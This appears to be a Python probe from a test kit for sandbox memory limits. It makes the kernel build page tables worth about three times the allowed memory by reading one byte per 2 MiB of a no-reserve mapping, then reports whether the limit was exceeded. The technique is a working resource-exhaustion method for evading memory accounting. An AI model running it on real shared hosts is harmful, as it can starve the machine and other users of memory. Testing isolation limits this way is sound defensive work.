"""Takes three times the memory that is allowed as page tables, one for each page that is merely read, far apart from each other."""

import ctypes
import mmap
import time

import targets
from kit import LIBC, got, honest

STEP = 2 << 20  # one table maps this much
COUNT = 3 * targets.MEMORY // 4096
LIBC.mmap.restype = ctypes.c_void_p
LIBC.mmap.argtypes = (ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long)
LIBC.madvise.argtypes = (ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int)
start = LIBC.mmap(None, COUNT * STEP, mmap.PROT_READ, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000, -1, 0)
if start not in (None, ctypes.c_void_p(-1).value):
    LIBC.madvise(start, COUNT * STEP, 15)  # MADV_NOHUGEPAGE
    for number in range(COUNT):
        ctypes.c_char.from_address(start + number * STEP).value
    time.sleep(0.1)
    with open("/proc/self/status") as file:
        tables = next(int(line.split()[1]) for line in file if line.startswith("VmPTE"))
    if tables << 10 > 1.5 * targets.MEMORY:
        got("memory", f"{tables >> 10} MiB of page tables")
solve = honest
